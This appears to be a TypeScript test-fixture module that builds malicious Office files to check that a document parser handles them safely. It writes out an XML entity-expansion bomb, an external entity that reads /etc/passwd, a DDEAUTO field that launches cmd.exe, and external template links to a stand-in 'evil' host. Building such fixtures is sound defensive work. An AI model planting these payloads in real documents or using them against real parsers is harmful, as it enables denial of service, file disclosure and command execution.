import { docxParts, makeDocx, makeXlsx, relations, xlsxParts } from "../office-file.ts";
import { makeZip, type ZipFilePart } from "../zip-file.ts";
import type { HostileFile } from "./hostile-file.ts";
import { HONEST_ROWS } from "./honest-files.ts";

const ENTITIES = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${"bcdefghij"[index]} "${`&${"abcdefghi"[index]};`.repeat(10)}">`).join("")}]>`;
const EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';

/** XML inside office files that expands, points outside, never ends or nests without end. */
export function hostileMarkup(): readonly HostileFile[] {
  const text = "<w:p><w:r><w:t>正文</w:t></w:r></w:p>";
  return [
    xlsx(
      "entity-bomb.xlsx",
      "xl/worksheets/sheet1.xml",
      `${ENTITIES}<worksheet><sheetData><row><c t="str"><v>&j;</v></c></row></sheetData></worksheet>`,
      "xml-doctype",
    ),
    xlsx(
      "entity-bomb-strings.xlsx",
      "xl/sharedStrings.xml",
      `${ENTITIES}<sst><si><t>&j;</t></si></sst>`,
      "xml-doctype",
    ),
    xlsx("external-entity.xlsx", "xl/workbook.xml", `${EXTERNAL}<workbook>&e;</workbook>`, "xml-doctype"),
    docx(
      "entity-bomb.docx",
      "word/document.xml",
      `${ENTITIES}<w:document><w:body>&j;</w:body></w:document>`,
      "xml-doctype",
    ),
    docx("external-entity.docx", "_rels/.rels", `${EXTERNAL}<Relationships/>`, "xml-doctype"),
    xlsx(
      "undeclared-entity.xlsx",
      "xl/worksheets/sheet1.xml",
      `<worksheet><sheetData><row><c t="str"><v>&j;&#x110000;&#0;&#xD800;</v></c></row></sheetData></worksheet>`,
      "reads",
    ),
    xlsx("unclosed.xlsx", "xl/worksheets/sheet1.xml", `<worksheet><sheetData>${HONEST_ROWS}`, "xml-incomplete"),
    xlsx("unclosed-comment.xlsx", "xl/worksheets/sheet1.xml", "<worksheet><!-- ", "xml-incomplete"),
    xlsx("unclosed-quote.xlsx", "xl/worksheets/sheet1.xml", '<worksheet><sheetData><row r="1', "xml-incomplete"),
    xlsx(
      "closes-too-much.xlsx",
      "xl/worksheets/sheet1.xml",
      `<worksheet></c></row></is></worksheet></worksheet>`,
      "xml-damaged",
    ),
    xlsx(
      "deep.xlsx",
      "xl/worksheets/sheet1.xml",
      `<worksheet>${"<a>".repeat(5000)}${"</a>".repeat(5000)}</worksheet>`,
      "limit-depth",
    ),
    docx(
      "deep-tables.docx",
      "word/document.xml",
      `<w:document><w:body>${"<w:tbl><w:tr><w:tc>".repeat(2000)}</w:body></w:document>`,
      "limit-depth",
    ),
    docx(
      "deep-tables-closed.docx",
      "word/document.xml",
      `<w:document><w:body>${"<w:tbl><w:tr><w:tc>".repeat(160)}${text}${"</w:tc></w:tr></w:tbl>".repeat(160)}</w:body></w:document>`,
      "reads",
    ),
    docx(
      "deep-text-boxes.docx",
      "word/document.xml",
      `<w:document><w:body>${"<w:p><w:r><w:txbxContent>".repeat(150)}${text}${"</w:txbxContent></w:r></w:p>".repeat(150)}</w:body></w:document>`,
      "reads",
    ),
    docx(
      "stray-ends.docx",
      "word/document.xml",
      `<w:document><w:body></w:tc></w:tr></w:tbl></w:p></w:sdt></w:txbxContent>${text}</w:body></w:document>`,
      "xml-damaged",
    ),
    docx(
      "endless-field.docx",
      "word/document.xml",
      `<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>${text}</w:body></w:document>`,
      "reads",
    ),
    docx(
      "dde-field.docx",
      "word/document.xml",
      `<w:document><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>${text}</w:body></w:document>`,
      "reads",
    ),
    docx(
      "wide-span.docx",
      "word/document.xml",
      `<w:document><w:body><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>${text}</w:tc><w:tc>${text}</w:tc></w:tr></w:tbl></w:body></w:document>`,
      "reads",
    ),
    docx(
      "style-loop.docx",
      "word/styles.xml",
      '<w:styles><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
      "file-empty",
    ),
    { name: "external-template.docx", bytes: withOutside("docx"), outcome: "reads" },
    { name: "external-link.xlsx", bytes: withOutside("xlsx"), outcome: "reads" },
    {
      name: "macros.xlsm",
      bytes: makeXlsx({
        sheets: [{ name: "目标", xml: HONEST_ROWS }],
        parts: [{ name: "xl/vbaProject.bin", data: "Auto_Open" }],
      }),
      outcome: "macros-ignored",
    },
    {
      name: "macro-sheet.xlsm",
      bytes: makeXlsx({
        sheets: [{ name: "目标", xml: HONEST_ROWS }],
        parts: [{ name: "xl/macrosheets/sheet1.xml", data: "<xm:macrosheet/>" }],
      }),
      outcome: "macros-ignored",
    },
    {
      name: "macros.docm",
      bytes: makeDocx({ body: text, parts: [{ name: "word/vbaProject.bin", data: "AutoOpen" }] }),
      outcome: "macros-ignored",
    },
  ];
}

function xlsx(name: string, part: string, data: string, outcome: string): HostileFile {
  const parts = xlsxParts({ sheets: [{ name: "目标", xml: HONEST_ROWS }] });
  return { name, bytes: makeZip(replaced(parts, part, data)), outcome };
}

function docx(name: string, part: string, data: string, outcome: string): HostileFile {
  return { name, bytes: makeZip(replaced(docxParts({ body: "" }), part, data)), outcome };
}

function replaced(parts: readonly ZipFilePart[], name: string, data: string): readonly ZipFilePart[] {
  return parts.map((part) => (part.name === name ? { name, data } : part));
}

/** Relations whose targets stand on other machines: nothing may be fetched, and the file reads without them. */
function withOutside(kind: "docx" | "xlsx"): Uint8Array {
  const outside =
    '<Relationship Id="x" Type="x/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/><Relationship Id="y" Type="x/externalLinkPath" Target="\\\\192.0.2.1\\share\\evil.xlsx" TargetMode="External"/></Relationships>';
  const add = (text: string) => text.replace("</Relationships>", outside);
  if (kind === "docx") {
    const rels = add(relations([["rId1", "styles", "styles.xml"]]));
    return makeZip(
      replaced(docxParts({ body: "<w:p><w:r><w:t>正文</w:t></w:r></w:p>" }), "word/_rels/document.xml.rels", rels),
    );
  }
  const rels = add(relations([["rId1", "worksheet", "worksheets/sheet1.xml"]]));
  return makeZip(
    replaced(xlsxParts({ sheets: [{ name: "目标", xml: HONEST_ROWS }] }), "xl/_rels/workbook.xml.rels", rels),
  );
}
